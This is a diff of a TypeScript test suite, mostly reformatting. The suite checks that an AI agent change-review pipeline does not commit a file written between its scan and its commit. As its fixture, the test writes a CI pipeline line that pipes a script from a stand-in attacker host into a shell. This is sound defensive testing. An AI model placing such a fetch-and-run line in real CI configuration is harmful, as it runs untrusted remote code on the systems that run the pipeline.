@@ -50,7 +50,14 @@ const git = (args: string[]) => execFileSync("git", [`--git-dir=${demo.source}`,
 const scenario = {
   turns: [
     { toolCalls: [{ tool: "edit_file", args: { path: "src/price.mjs", oldString: "Math.floor(", newString: "Math.round(" } }] },
-    { toolCalls: [{ tool: "propose_change", args: { title: "Round discounts", hypothesis: "Math.round rounds to the nearest cent as the test expects." } }] },
+    {
+      toolCalls: [
+        {
+          tool: "propose_change",
+          args: { title: "Round discounts", hypothesis: "Math.round rounds to the nearest cent as the test expects." },
+        },
+      ],
+    },
     { text: "done" },
   ],
 };
@@ -65,7 +72,14 @@ const terminals: TerminalProvider = {
   unavailable: () => null,
   async attach(runId, workspaceDir) {
     race.log.push(`attach ${runId}`);
-    const pod = { id: `pod-${runId}`, sandbox: "none", workspaceDir, startedAt: Date.now(), alive: () => true, exec: async () => ({ exitCode: 0, output: "", truncatedChars: 0 }) } as unknown as TerminalPod;
+    const pod = {
+      id: `pod-${runId}`,
+      sandbox: "none",
+      workspaceDir,
+      startedAt: Date.now(),
+      alive: () => true,
+      exec: async () => ({ exitCode: 0, output: "", truncatedChars: 0 }),
+    } as unknown as TerminalPod;
     return { pod, fromPool: false, startMs: 1 };
   },
   get: () => undefined,
@@ -77,7 +91,12 @@ const terminals: TerminalProvider = {
 beforeAll(async () => {
   tk = await createTestKernel({ hitl: true, terminals });
   demo = await seedDemoRepository(tk.t.db, tk.t.dir);
-  improve = new Improve({ db: tk.t.db, kernel: tk.kernel, log: SILENT_LOG, changes: { broker: tk.hitl!.broker, dataDir: tk.t.dir, checks: { allowUnsandboxed: !sandbox.ok } } });
+  improve = new Improve({
+    db: tk.t.db,
+    kernel: tk.kernel,
+    log: SILENT_LOG,
+    changes: { broker: tk.hitl!.broker, dataDir: tk.t.dir, checks: { allowUnsandboxed: !sandbox.ok } },
+  });
   await improve.start({ sweepMs: 60_000 });
   changes = improve.changes!;
   launcher = await person("approver", "alpha", "launcher");
@@ -97,7 +116,11 @@ describe("a file written between the scan and the commit", () => {
       fs.writeFileSync(path.join(worktree, ".ci", "pipeline.yml"), "deploy: curl https://attacker.example | sh\n");
     };
     try {
-      const change = await changes.start(launcher, { repositoryId: demo.id, goal: "Fix the failing test", agent: "demo-fix", scenario }, "api");
+      const change = await changes.start(
+        launcher,
+        { repositoryId: demo.id, goal: "Fix the failing test", agent: "demo-fix", scenario },
+        "api",
+      );
       id = change.id;
       await tk.settle(id);
       await changes.idle();
@@ -115,7 +138,10 @@ describe("a file written between the scan and the commit", () => {
   it("is not committed: the commit holds exactly the files the change lists and the reviewer is shown", async () => {
     const got = await changes.get(tk.actors.admin, id);
     expect(got.headCommit).toBeTruthy();
-    const committed = git(["diff-tree", "-r", "--no-renames", "--name-only", got.baseCommit, got.headCommit!]).split("\n").filter(Boolean).sort();
+    const committed = git(["diff-tree", "-r", "--no-renames", "--name-only", got.baseCommit, got.headCommit!])
+      .split("\n")
+      .filter(Boolean)
+      .sort();
     expect(committed).not.toContain(".ci/pipeline.yml");
     expect(got.files.map((f) => f.path).sort()).toEqual(committed);
     expect([...got.filesByRisk.high, ...got.filesByRisk.medium, ...got.filesByRisk.low].sort()).toEqual(committed);
